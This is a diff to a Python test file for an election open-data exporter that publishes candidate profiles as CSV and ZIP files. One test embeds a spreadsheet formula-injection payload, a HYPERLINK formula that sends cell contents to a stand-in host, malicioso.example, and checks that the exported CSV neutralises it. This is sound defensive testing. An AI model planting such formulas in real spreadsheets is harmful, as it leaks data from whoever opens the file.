@@ -4,21 +4,26 @@ what a journalist opening the CSV in a spreadsheet sees, and what a script verif
 import csv
 import hashlib
 import io
+import itertools
 import json
 import zipfile
+import zlib
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
 from contracts.events.capture import PublicCurricular, PublicIdentity
+from services.publication.adapters import data_package
 from services.publication.adapters.data_package import package
 from services.publication.domain import open_data
-from services.publication.domain.open_data import ElectionNames, Fingerprint
+from services.publication.domain.open_data import ElectionNames, Fingerprint, document
+from services.runtime.spreadsheets import csv_text
 from tests.support.open_data import CATALOGUE, PARTIES, package_problems, public_profile
 
 NAMES = ElectionNames.of(PARTIES, CATALOGUE)
 NOW = datetime(2027, 4, 2, 18, 30, 5, tzinfo=UTC)
+PIECE = data_package.PIECE_BYTES
 
 
 def rows_of(content: bytes) -> list[dict[str, str]]:
@@ -26,7 +31,7 @@ def rows_of(content: bytes) -> list[dict[str, str]]:
 
 
 def built(statistics: object | None = None) -> dict[str, bytes]:
-    tables = open_data.tables([public_profile(1), public_profile(2)], NAMES)
+    tables = open_data.tables([document(public_profile(1)), document(public_profile(2))], NAMES)
     stats = None if statistics is None else (statistics, open_data.statistics_table(statistics))
     files = package(
         tables,
@@ -41,7 +46,7 @@ def built(statistics: object | None = None) -> dict[str, bytes]:
 
 
 def test_each_person_of_a_formula_is_a_row_under_the_column_names_ine_publishes() -> None:
-    rows = open_data.candidacy_rows(public_profile(7), NAMES)
+    rows = open_data.candidacy_rows(document(public_profile(7)), NAMES)
     assert [(r["tipo_candidato"], r["nombre"], r["edad"]) for r in rows] == [
         ("Propietaria", "María Fernanda", 44),
         ("Suplente", "Lucía", 31),
@@ -58,7 +63,7 @@ def test_each_person_of_a_formula_is_a_row_under_the_column_names_ine_publishes(
 
 def test_every_public_curricular_field_has_its_column_and_lists_are_one_cell() -> None:
     assert set(open_data.CURRICULAR_COLUMNS) == set(PublicCurricular.model_fields)
-    row = open_data.curricular_row(public_profile(3))
+    row = open_data.curricular_row(document(public_profile(3)))
     assert row["correo_electronico"] == "c3@ejemplo.mx | equipo3@ejemplo.mx"
     assert row["cursos"] == "Derecho electoral | Finanzas públicas"
     assert row["escolaridad"] == "Licenciatura"
@@ -76,8 +81,8 @@ def test_only_public_identity_answers_are_a_row() -> None:
         *PublicIdentity.model_fields,
     }
     assert "nivel_ingresos" not in {c.name for c in open_data.IDENTITY_TABLE.columns}
-    assert open_data.identity_row(public_profile(2)) is None  # no public identity answer
-    row = open_data.identity_row(public_profile(1))
+    assert open_data.identity_row(document(public_profile(2))) is None  # no public identity answer
+    row = open_data.identity_row(document(public_profile(1)))
     assert row is not None and row["pueblo_indigena"] == "Mazahua" and row["discapacidad"] is None
 
 
@@ -85,7 +90,7 @@ def test_only_public_identity_answers_are_a_row() -> None:
 def test_a_proposal_that_would_run_as_a_formula_comes_out_inert_in_the_csv(lead: str) -> None:
     attack = f'{lead}HYPERLINK("https://malicioso.example/?d="&A1,"Ver propuesta")'
     profile = public_profile(1, propuesta_1=attack + " " + "x" * 300)
-    tables = open_data.tables([profile], NAMES)
+    tables = open_data.tables([document(profile)], NAMES)
     files = package(
         tables,
         election_id="local-2027",
@@ -153,3 +158,45 @@ def test_release_names_are_moments_and_never_repeat() -> None:
     assert open_data.release_id(NOW + timedelta(minutes=1), "2027-04-02T183005Z") == (
         "2027-04-02T183105Z"
     )
+
+
+def test_every_file_in_the_zip_is_the_file_itself() -> None:
+    files = built(statistics={"sexo": {"Mujer": 12}})
+    (archive,) = (n for n in files if n.endswith(".zip"))
+    with zipfile.ZipFile(io.BytesIO(files[archive])) as opened:
+        assert opened.testzip() is None
+        for name in opened.namelist():
+            assert opened.read(name) == files[name]
+
+
+def test_a_cell_with_quotes_commas_or_line_ends_reads_back_as_written() -> None:
+    tricky = 'Dijo "agua, luz"\r\ny drenaje, ya'
+    profile = public_profile(1, propuesta_1=tricky, propuesta_2="-5 % de impuestos")
+    (_, curricular, _) = open_data.tables([document(profile)], NAMES)
+    content = data_package.csv_bytes(curricular)
+    names = [c.name for c in curricular.spec.columns]
+    as_the_house_writes = csv_text(
+        [names, *([row.get(n) for n in names] for row in curricular.rows)]
+    )
+    assert content == as_the_house_writes.encode("utf-8")
+    (row,) = rows_of(content)
+    assert row["propuesta_1"] == tricky and row["propuesta_2"] == "'-5 % de impuestos"
+
+
+@pytest.mark.parametrize(
+    "offset", [0, 1, PIECE - 1, PIECE, PIECE + 17, 2 * PIECE, 2 * PIECE + 5, 3 * PIECE]
+)
+def test_any_part_of_a_kept_file_inflates_to_the_files_own_bytes(offset: int) -> None:
+    content = hashlib.sha256(b"x").digest() * (2 * PIECE // 32) + b"fin de archivo" * 1000
+    pieces = data_package.deflated_pieces(content)
+    assert len(pieces) == 3
+    ends = list(itertools.accumulate(len(p) for p in pieces))
+    kept = b"".join(pieces)
+    span = data_package.piece_span(ends, len(content), offset, PIECE)
+    expected = content[offset : offset + PIECE]
+    if span is None:
+        assert expected == b""
+        return
+    part = data_package.inflated_part(kept[span.start : span.stop], span, PIECE)
+    assert part == expected
+    assert zlib.decompressobj(-15).decompress(kept) == content  # one deflate stream
